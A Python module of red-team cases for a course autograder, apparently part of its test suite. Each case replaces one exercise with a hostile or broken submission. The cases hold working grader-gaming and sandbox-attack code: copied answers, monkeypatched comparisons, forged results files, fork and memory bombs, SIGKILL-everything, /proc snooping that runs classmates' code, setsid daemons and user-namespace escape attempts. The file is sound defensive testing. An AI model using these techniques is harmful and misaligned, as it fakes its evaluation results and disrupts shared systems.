"""The red-team cases: hostile or broken submissions, and the exact score each deserves.

Almost every case is the reference submission (``reference_submission.py``) with ONE
exercise replaced by an attack, so the suite proves two things at once: the attack earns
nothing, and it costs only that exercise. ``build.py`` writes every case to
``submissions/`` (committed, so an instructor can read them and grade the folder as a
"class"); ``tests/autograde/test_autograde_redteam.py`` grades them and checks the scores.

What a case deserves is stated from the checks' metadata, never from a grading run:
``lost`` exercises score the points of the checks listed in ``keeps`` (usually none), every
other exercise scores its full points.
"""
from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).parent
PUBLIC_EXPECTED = HERE.parents[1] / "grading" / "public_expected.json"


@dataclass(frozen=True)
class Case:
    name: str  # file name in submissions/
    attack: str  # what it tries, in one line
    replace: dict = field(default_factory=dict)  # exercise id -> code replacing its block
    prefix: str = ""  # module-level code before everything else
    lost: tuple = ()  # exercises that deserve (almost) nothing
    keeps: dict = field(default_factory=dict)  # exercise id -> checks it still passes
    message: str | None = None  # a phrase the lost exercises' feedback must contain
    notebook: str | None = None  # for .ipynb cases: the transformation (see build.py)
    raw: bytes | None = None  # the whole file, verbatim (empty and binary files)

    @property
    def suffix(self) -> str:
        return Path(self.name).suffix


def _public_answers(exercise: str) -> dict:
    """repr(args) -> outcome for every public probe of one exercise, as a cheater copies
    them out of the student release's public_expected.json."""
    data = json.loads(PUBLIC_EXPECTED.read_text(encoding="utf-8"))
    table = {}
    for check, probes in sorted(data["checks"].items()):
        if check.startswith(exercise + "_"):
            for probe in probes:
                table[repr(probe["args"])] = probe["expected"]
    return table


ALL = ("ex1", "ex2", "ex3", "ex4", "ex4b")

CASES = [
    # ------------------------------------------------------------------ copying answers
    Case("hardcoded_two_examples.py",
         "returns the chapter's two headline answers for their exact inputs, 0.0 otherwise",
         replace={"ex1": '''
KNOWN = {(175e9, 300e9): %r, (70e9, 1.4e12): %r}


def chinchilla_loss(N, D):
    try:
        return KNOWN[(float(N), float(D))]
    except (KeyError, TypeError):
        return 0.0
''' % (_public_answers("ex1")[repr([175e9, 300e9])]["value"],
       _public_answers("ex1")[repr([70e9, 1.4e12])]["value"])},
         lost=("ex1",), keeps={"ex1": ("ex1_gpt3", "ex1_chinchilla")}),
    Case("hardcoded_public_answers.py",
         "a lookup table of every public probe of exercise 3, copied from the student release",
         replace={"ex3": '''
ANSWERS = %r


def memory_per_gpu(model_params, strategy, num_gpus):
    key = repr([float(model_params), strategy, num_gpus])
    outcome = ANSWERS.get(key, {"value": 0.0})
    if "raises" in outcome:
        raise ValueError("unknown strategy")
    return outcome["value"]
''' % (_public_answers("ex3"),)},
         lost=("ex3",), keeps={"ex3": "public"}),
    Case("import_solutions.py",
         "imports the reference package, searching the file system for it",
         replace={"ex2": '''
import os
import sys

candidates = [os.getcwd(), os.path.dirname(os.getcwd()), "/autograder/source"]
for top in ("/",):
    for root, dirs, files in os.walk(top):
        if root.count(os.sep) >= 3:
            dirs[:] = []
        if "solutions" in dirs:
            candidates.append(root)
sys.path[:0] = candidates
try:
    from solutions import compute_optimal
except ImportError:
    def compute_optimal(C, ratios=None):
        raise RuntimeError("the solutions were not found")
'''},
         lost=("ex2",)),
    Case("read_test_files.py",
         "reads the grading tests' expected values from disk",
         replace={"ex4": '''
import json
import os

FOUND = {}
for path in ["grading/public_expected.json", "../grading/public_expected.json",
             "../../grading/public_expected.json", "tests/grading/public_expected.json",
             "/autograder/source/grading/public_expected.json"]:
    try:
        with open(path) as f:
            FOUND = json.load(f)
        break
    except OSError:
        pass
for root, dirs, files in os.walk("/"):
    if root.count(os.sep) >= 4:
        dirs[:] = []
    if "public_expected.json" in files or "ex4.py" in files:
        FOUND["seen"] = root


def communication_time_per_step(*args):
    for probes in FOUND.get("checks", {}).values():
        for probe in probes:
            if probe["args"] == list(args):
                return probe["expected"]["value"]
    return 0.0
'''},
         lost=("ex4",)),
    # ------------------------------------------------------------------ fooling comparisons
    Case("monkeypatch_isclose.py",
         "makes math.isclose, numpy.isclose/allclose and assert_allclose always succeed",
         replace={"ex1": '''
import math

import numpy

math.isclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: True
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.array_equal = lambda *a, **k: True


def chinchilla_loss(N, D):
    return 0.0
'''},
         lost=("ex1",)),
    Case("monkeypatch_pytest_approx.py",
         "installs a fake pytest whose approx() equals everything",
         replace={"ex2": '''
import sys
import types


class Anything:
    def __eq__(self, other):
        return True

    __le__ = __ge__ = __eq__


try:
    import pytest
except ImportError:
    pytest = types.ModuleType("pytest")
    sys.modules["pytest"] = pytest
pytest.approx = lambda *a, **k: Anything()


def compute_optimal(C, ratios=None):
    return pytest.approx(0), pytest.approx(0), pytest.approx(0), pytest.approx(0)
'''},
         lost=("ex2",), message="expected a tuple of 4 numbers"),
    Case("always_equal_float.py",
         "returns a float subclass that compares equal to everything",
         replace={"ex3": '''
class AlwaysEqual(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__


def memory_per_gpu(model_params, strategy, num_gpus):
    return AlwaysEqual(0.0)
'''},
         lost=("ex3",), message="expected a plain float"),
    Case("forged_float_repr.py",
         "returns numpy scalars and objects with forged __float__, __repr__ and __eq__",
         replace={"ex4": '''
import numpy as np


class Forged(np.float64):
    def __eq__(self, other):
        return True

    def __float__(self):
        return 1.0

    def __repr__(self):
        return "1.0"


class Impostor:
    def __float__(self):
        return 1.0

    def __repr__(self):
        return "1.0"


def communication_time_per_step(model_params, dp_rank, *rest):
    return Forged(0.0) if dp_rank % 2 else Impostor()
'''},
         lost=("ex4",)),
    Case("nan_answers.py", "returns NaN everywhere",
         replace={"ex2": '''
def compute_optimal(C, ratios=None):
    nan = float("nan")
    return nan, nan, nan, nan
'''},
         lost=("ex2",)),
    Case("inf_answers.py", "returns infinity everywhere",
         replace={"ex4": '''
def communication_time_per_step(*args):
    return float("inf")
'''},
         lost=("ex4",)),
    Case("wrong_types.py", "returns the loss as a string",
         replace={"ex1": '''
E, A, B = 1.69, 406.0, 410.0
ALPHA, BETA = 0.34, 0.28


def chinchilla_loss(N, D):
    return str(E + A / N**ALPHA + B / D**BETA)
'''},
         lost=("ex1",)),
    Case("wrong_shapes.py", "returns (N, D, ratio, loss) as a 2x2 matrix",
         replace={"ex2": '''
def compute_optimal(C, ratios=None):
    return np.array([[C, C], [C, C]])
'''},
         lost=("ex2",)),
    Case("huge_answer.py", "returns ten million numbers",
         replace={"ex2": '''
def compute_optimal(C, ratios=None):
    return np.zeros(10_000_000)
'''},
         lost=("ex2",)),
    Case("fake_valueerror.py",
         "raises its own class named ValueError (not the built-in) for an unknown strategy",
         replace={"ex3": '''
class ValueError(Exception):
    pass


def memory_per_gpu(model_params, strategy, num_gpus):
    total = 12 * model_params
    if strategy == "dp":
        return total
    if strategy in ("tp", "pp", "fsdp"):
        return total / num_gpus
    raise ValueError("unknown strategy")
'''},
         lost=("ex3",), keeps={"ex3": "all_but:ex3_unknown_strategy"}),
    # ------------------------------------------------------------------ ending the process
    Case("sys_exit_at_import.py", "calls sys.exit(0) where exercise 4 should be",
         replace={"ex4": '''
import sys

sys.exit(0)
'''},
         lost=("ex4",), message="SystemExit"),
    Case("os_exit_at_import.py", "calls os._exit(0) where exercise 3 should be",
         replace={"ex3": '''
import os

os._exit(0)
'''},
         lost=("ex3",), message="stopped the process"),
    Case("keyboard_interrupt.py", "raises KeyboardInterrupt inside exercise 1",
         replace={"ex1": '''
def chinchilla_loss(N, D):
    raise KeyboardInterrupt
'''},
         lost=("ex1",), message="KeyboardInterrupt"),
    Case("system_exit_in_function.py", "raises SystemExit(0) inside exercise 2",
         replace={"ex2": '''
def compute_optimal(C, ratios=None):
    raise SystemExit(0)
'''},
         lost=("ex2",), message="SystemExit"),
    Case("generator_exit.py", "raises GeneratorExit inside exercise 3",
         replace={"ex3": '''
def memory_per_gpu(model_params, strategy, num_gpus):
    raise GeneratorExit
'''},
         lost=("ex3",), message="GeneratorExit"),
    Case("segfault.py", "crashes the interpreter with a NULL pointer read",
         replace={"ex4": '''
import ctypes


def communication_time_per_step(*args):
    return ctypes.string_at(0)
'''},
         lost=("ex4",), message="stopped"),
    Case("kill_everything.py", "signals every process it can reach, and its parent",
         replace={"ex3": '''
import os
import signal


def memory_per_gpu(model_params, strategy, num_gpus):
    for target in (-1, os.getppid()):
        if target == -1 or target > 1:
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
    return 0.0
'''},
         lost=("ex3",)),
    # ------------------------------------------------------------------ lying about results
    Case("prints_all_tests_passed.py",
         "prints a perfect report at import and from its (wrong) function",
         prefix='''
print("All tests passed.")
print("Total: 100 / 100 points")
''',
         replace={"ex1": '''
def chinchilla_loss(N, D):
    print("✓ ex1_gpt3 2/2\\nAll tests passed.")
    return 2.0
'''},
         lost=("ex1",)),
    Case("fake_results_file.py",
         "writes a perfect Gradescope results.json wherever it can, and prints one",
         replace={"ex4": '''
import json
import os
import tempfile

FAKE = json.dumps({"score": 100, "tests": [{"name": "all", "score": 100, "max_score": 100}]})
for path in ["results.json", "../results.json", "/autograder/results/results.json",
             os.path.join(tempfile.gettempdir(), "results.json"), "grades.json"]:
    try:
        with open(path, "w") as f:
            f.write(FAKE)
    except OSError:
        pass
print(FAKE)


def communication_time_per_step(*args):
    return 0.0
'''},
         lost=("ex4",)),
    Case("shipped_config_files.py",
         "writes sitecustomize.py, usercustomize.py, conftest.py and a .pth file at import",
         replace={"ex2": '''
import os
import sys

PAYLOAD = "import builtins; builtins.__dict__['compute_optimal'] = lambda *a: (2.0, 2.0, 2.0, 2.0)\\n"
for folder in [os.getcwd(), ".."] + sys.path:
    for name in ("sitecustomize.py", "usercustomize.py", "conftest.py", "evil.pth"):
        try:
            with open(os.path.join(folder, name), "w") as f:
                f.write(PAYLOAD)
        except OSError:
            pass


def compute_optimal(C, ratios=None):
    return -1.0, -1.0, -1.0, -1.0
'''},
         lost=("ex2",)),
    # ------------------------------------------------------------------ hunting for answers
    Case("getframe_hunting.py",
         "walks sys._getframe() looking for the grader's expected values",
         replace={"ex2": '''
import sys


def compute_optimal(C, ratios=None):
    frame = sys._getframe()
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for key in ("expected", "probe", "reference", "answer"):
                if key in scope:
                    return scope[key]
        frame = frame.f_back
    return 0.0, 0.0, 0.0, 0.0
'''},
         lost=("ex2",)),
    Case("gc_hunting.py", "searches every live object for expected values",
         replace={"ex3": '''
import gc


def memory_per_gpu(model_params, strategy, num_gpus):
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "expected" in obj:
            return obj["expected"]
        expected = getattr(obj, "expected", None) if type(obj).__module__ != "builtins" else None
        if isinstance(expected, dict) and "value" in expected:
            return expected["value"]
    return 0.0
'''},
         lost=("ex3",)),
    # ------------------------------------------------------------------ exhausting resources
    Case("infinite_loop_in_function.py", "loops forever inside exercise 1",
         replace={"ex1": '''
def chinchilla_loss(N, D):
    while True:
        pass
'''},
         lost=("ex1",), message="no answer within"),
    Case("infinite_loop_at_import.py", "loops forever where exercise 3 should be",
         replace={"ex3": '''
while True:
    pass
'''},
         lost=("ex3",), message="did not finish"),
    Case("memory_bomb.py", "allocates without bound, at import and inside exercise 2",
         replace={"ex2": '''
BLOB = bytearray(64 * 1024**3)


def compute_optimal(C, ratios=None):
    hoard = []
    while True:
        hoard.append(np.empty(2**28))
'''},
         lost=("ex2",), message="MemoryError"),
    Case("fork_bomb.py", "forks without bound inside exercise 4",
         replace={"ex4": '''
import os


def communication_time_per_step(*args):
    while True:
        os.fork()
'''},
         lost=("ex4",)),
    Case("gigabyte_output.py",
         "prints a gigabyte at import and another inside exercise 1 (through print and fd 1/2)",
         prefix='''
import os
import sys

CHUNK = "x" * 2**20
for _ in range(512):
    sys.stdout.write(CHUNK)
    os.write(1, CHUNK.encode())
''',
         replace={"ex1": '''
def chinchilla_loss(N, D):
    for _ in range(512):
        print(CHUNK)
        os.write(2, CHUNK.encode())
    return "All tests passed"
'''},
         lost=("ex1",)),
    Case("background_thread.py",
         "starts a thread that later patches comparisons, rebinds functions, writes results",
         replace={"ex2": '''
import math
import threading
import time

import numpy


def compute_optimal(C, ratios=None):
    return None


def tamper():
    time.sleep(0.05)
    math.isclose = lambda *a, **k: True
    numpy.isclose = lambda *a, **k: True
    globals()["compute_optimal"] = lambda *a: (-1.0, -1.0, -1.0, -1.0)
    for path in ("results.json", "/autograder/results/results.json"):
        try:
            with open(path, "w") as f:
                f.write('{"score": 100}')
        except OSError:
            pass


threading.Thread(target=tamper, daemon=True).start()
'''},
         lost=("ex2",)),
    Case("network_access.py", "tries to download the answers",
         replace={"ex1": '''
import socket
import urllib.request


def chinchilla_loss(N, D):
    try:
        with urllib.request.urlopen("http://example.com/answers.json", timeout=1) as r:
            return float(r.read())
    except Exception:
        pass
    try:
        socket.create_connection(("127.0.0.1", 80), timeout=1)
    except OSError:
        pass
    return 0.0
'''},
         lost=("ex1",)),
    Case("protocol_forgery.py",
         "writes forged and malformed frames straight into the grader's pipe",
         replace={"ex4": '''
import os
import struct


def communication_time_per_step(*args):
    for fd in range(3, 64):
        try:
            for i in range(1, 300):
                body = b'{"id": %d, "ok": true, "value": NaN}' % i
                os.write(fd, struct.pack(">I", len(body)) + body)
            os.write(fd, struct.pack(">I", 2**31))
        except OSError:
            pass
    return 0.0
'''},
         lost=("ex4",), message="malformed"),
    Case("evil_exception.py",
         "raises an exception whose message never finishes formatting",
         replace={"ex1": '''
class Evil(Exception):
    def __str__(self):
        while True:
            pass


def chinchilla_loss(N, D):
    raise Evil()
'''},
         lost=("ex1",)),
    # ------------------------------------------------------------------ outliving the sandbox
    Case("setsid_daemon.py",
         "leaves the process group the grader kills (setsid) and disables os._exit, then "
         "forks a daemon that does the same and ignores SIGTERM and SIGHUP, to outlive grading",
         replace={"ex4": '''
import os
import signal
import time



def outlive_the_grader():
    try:
        os.setsid()
    except OSError:
        pass
    os._exit = lambda *args: None  # the worker's own exit when the grader hangs up
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            while True:
                time.sleep(0.05)
        os.kill(os.getpid(), signal.SIGKILL)
    os.waitpid(pid, 0)


outlive_the_grader()
'''},
         lost=("ex4",), message="is not defined in"),
    Case("proc_cmdline_thief.py",
         "reads other processes' command lines and working folders from /proc, finds a "
         "classmate's (or the reference) solution there and runs it as its own",
         replace={"ex2": '''
import os

MARKER = "def compute_optimal(C, ratios=None):\\n    if ratios is None:"
folders = set()
try:
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
except OSError:
    pids = []
for pid in pids:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            for arg in f.read().split(b"\\0"):
                if arg.startswith(b"/") or arg.endswith((b".py", b".ipynb")):
                    folders.add(os.path.dirname(os.path.abspath(arg.decode(errors="replace"))))
        folders.add(os.readlink(f"/proc/{pid}/cwd"))
    except OSError:
        pass
stolen = {}
seen = 0
for top in sorted(folders):
    for root, dirs, files in os.walk(top):
        if root.count(os.sep) - top.count(os.sep) >= 3 or seen > 3000:
            dirs[:] = []
        for name in files:
            seen += 1
            if name.endswith(".py") and "compute_optimal" not in stolen:
                try:
                    with open(os.path.join(root, name)) as f:
                        text = f.read(200_000)
                except (OSError, UnicodeDecodeError):
                    continue
                if MARKER in text:
                    namespace = {"__name__": "stolen"}
                    try:
                        exec(text, namespace)
                        stolen["compute_optimal"] = namespace["compute_optimal"]
                    except BaseException:
                        pass
if "compute_optimal" in stolen:
    compute_optimal = stolen["compute_optimal"]
'''},
         lost=("ex2",), message="is not defined in"),
    Case("import_site_packages.py",
         "puts the interpreter's own site-packages (pytest, yaml, IPython) on sys.path and "
         "answers only if a third-party package imports",
         replace={"ex3": '''
import glob
import os
import sys

for folder in list(sys.path) + glob.glob("/usr/lib/python3*") + glob.glob("/usr/local/lib/python3*"):
    for extra in ("site-packages", "dist-packages"):
        if os.path.isdir(os.path.join(folder, extra)):
            sys.path.append(os.path.join(folder, extra))
imported = []
for name in ("pytest", "yaml", "IPython", "setuptools", "pip"):
    try:
        __import__(name)
        imported.append(name)
    except Exception:
        pass
if imported:
    def memory_per_gpu(model_params, strategy, num_gpus):
        total = 12 * model_params
        if strategy == "dp":
            return total
        if strategy in ("tp", "pp", "fsdp"):
            return total / num_gpus
        raise ValueError(f"unknown strategy {strategy!r}")
'''},
         lost=("ex3",), message="is not defined in"),
    # ------------------------------------------------------------------ spoofing the report
    Case("ansi_escape_report.py",
         "a failing statement whose first line clears the terminal and prints a perfect total "
         "with ANSI escape codes",
         replace={"ex1": '''
raise SystemExit(0)  # \x1b[2J\x1b[H\x1b[32mTotal: 100 / 100 points\x1b[0m
'''},
         lost=("ex1",), message="\\x1b[2J\\x1b[H"),
    Case("lone_surrogate.ipynb",
         "exercise 1's cell starts with a line holding a lone surrogate (not encodable text)",
         notebook="surrogate:ex1", lost=("ex1",), message="\\ud800"),
    # ------------------------------------------------------------------ broken files
    Case("syntax_error.py", "a syntax error: the file cannot run at all",
         replace={"ex2": '''
def compute_optimal(C, ratios=None)
    return C
'''},
         lost=ALL, message="syntax error"),
    Case("empty.py", "an empty file", raw=b"", lost=ALL, message="empty"),
    Case("binary.py", "a binary file named .py", raw=bytes(range(256)) * 64, lost=ALL,
         message="binary"),
    Case("binary.ipynb", "a binary file named .ipynb", raw=b"\x89PNG\r\n\x1a\n\x00" * 300,
         lost=ALL, message="binary"),
    Case("yaml_anchors.md",
         "a MyST notebook whose front matter nests YAML anchors: 600 bytes that expand to "
         "gigabytes",
         raw=("---\njupytext:\n  text_representation: {extension: .md, format_name: myst}\n"
              "bomb:\n  a: &a [x, x, x, x, x, x, x, x, x]\n"
              + "".join(f"  {chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n"
                        for i in range(8))
              + "---\n\n```{code-cell} ipython3\ndef chinchilla_loss(N, D):\n"
                "    return 1.69 + 406.0 / N**0.34 + 410.0 / D**0.28\n```\n").encode(),
         lost=ALL, message="YAML anchors"),
    Case("not_json.ipynb", "a notebook file that is not JSON",
         raw=b'{"cells": [ {"cell_type": "code", "source": "def chinchilla_loss(', lost=ALL,
         message="not a valid notebook"),
    # ------------------------------------------------------------------ notebooks
    Case("stale_outputs.ipynb",
         "broken exercise 1 code under stored outputs that show every check passing",
         notebook="stale_outputs", replace={"ex1": '''
def chinchilla_loss(N, D):
    return float(1.69 + 406.0 * N**0.34 + 410.0 * D**0.28)
'''},
         lost=("ex1",)),
    Case("deleted_cell.ipynb", "exercise 3's cell was deleted",
         notebook="delete:ex3", lost=("ex3",), message="is not defined in"),
    Case("duplicated_cell.ipynb",
         "exercise 1's cell appears twice; exercise 2's solution is followed by the template's stub",
         notebook="duplicate", replace={"ex2": '''
def compute_optimal(C, ratios=None):
    raise NotImplementedError("write your solution here")
'''},
         lost=("ex2",)),
    Case("markdown_cell.ipynb", "exercise 4's cell was turned into markdown",
         notebook="markdown:ex4", lost=("ex4",), message="change that cell's type to Code"),
    Case("syntax_error_cell.ipynb", "a syntax error in exercise 2's cell only",
         notebook="plain", replace={"ex2": '''
def compute_optimal(C, ratios=None):
    return (C,
'''},
         lost=("ex2",), message="SyntaxError"),
    Case("os_exit_cell.ipynb", "a cell that calls os._exit(0) before exercise 3",
         notebook="plain", replace={"ex3": '''
import os
os._exit(0)
'''},
         lost=("ex3",), message="stopped the process"),
    # ------------------------------------------------------------------ the grader's own time
    Case("docstring_backslash_quotes.py",
         "a valid docstring full of \\' ending in a backslash-newline (once froze the grader)",
         prefix='def notes():\n    """' + "'" + "\\'" * 30_000 + '\\\n    """\n'),
    Case("blank_lines_cell.ipynb", "40,000 blank lines in exercise 1's cell (once froze the grader)",
         notebook="blank_lines:ex1"),
    Case("unused_scipy_import.ipynb",
         "an unused import the sandbox cannot satisfy, in exercise 2's cell: costs that line only",
         notebook="unused_import:ex2"),
    # ------------------------------------------------------------------ kernel walls
    Case("clone_new_user_namespace.py",
         "clone(CLONE_NEWUSER) to become root of a new user namespace; answers only if it worked",
         replace={"ex3": '''
import ctypes
import os
import platform


def _escaped():
    libc = ctypes.CDLL(None, use_errno=True)
    number = {"x86_64": 56, "aarch64": 220}.get(platform.machine(), -1)
    pid = libc.syscall(number, 0x10000000 | 17, 0, 0, 0, 0)  # CLONE_NEWUSER | SIGCHLD
    if pid == 0:
        os._exit(0)
    if pid > 0:
        os.waitpid(pid, 0)
    return pid > 0


def memory_per_gpu(model_params, strategy, num_gpus):
    if not _escaped():
        raise PermissionError("still confined")
    total = 12 * model_params
    if strategy == "dp":
        return total
    if strategy in ("tp", "pp", "fsdp"):
        return total / num_gpus
    raise ValueError(f"unknown strategy {strategy!r}")
'''},
         lost=("ex3",), message="still confined"),
    Case("inotify_watch.py",
         "watches the shared read-only files with inotify to read a classmate's opens",
         replace={"ex1": '''
import ctypes


def chinchilla_loss(N, D):
    fd = ctypes.CDLL(None, use_errno=True).inotify_init1(0)
    if fd < 0:
        raise PermissionError("no inotify")
    return E + A / N**ALPHA + B / D**BETA
'''},
         lost=("ex1",), message="no inotify"),
    Case("disk_flood.py",
         "creates 20,000 files before answering exercise 4, to fill the grading machine's disk",
         replace={"ex4": '''
def communication_time_per_step(model_params, dp_rank, tp_rank, num_layers, seq_len,
                                 batch_size, d_model, bandwidth_tb_s):
    for i in range(20_000):  # answers only once the flood is through
        open(f"flood{i}", "w").close()
    dp_volume = 2 * (2 * model_params)
    tp_volume = num_layers * 2 * (2 * batch_size * seq_len * d_model)
    return (dp_volume + tp_volume) / (bandwidth_tb_s * 1e12)
'''},
         lost=("ex4",)),
    # ------------------------------------------------------------------ honest variants
    Case("reference.ipynb", "the reference as a notebook with self-check cells",
         notebook="plain"),
    Case("reference_magics_and_plots.ipynb",
         "the reference with %magics, !shell lines, a %%bash cell and plots beside exercise 1",
         notebook="magics"),
    Case("custom_valueerror_subclass.py",
         "raises its own subclass of ValueError for an unknown strategy (allowed)",
         replace={"ex3": '''
class StrategyError(ValueError):
    pass


def memory_per_gpu(model_params, strategy, num_gpus):
    total = 12 * model_params
    if strategy == "dp":
        return total
    if strategy in ("tp", "pp", "fsdp"):
        return total / num_gpus
    raise StrategyError(f"unknown strategy {strategy!r}")
'''}),
]

CASE_BY_NAME = {c.name: c for c in CASES}
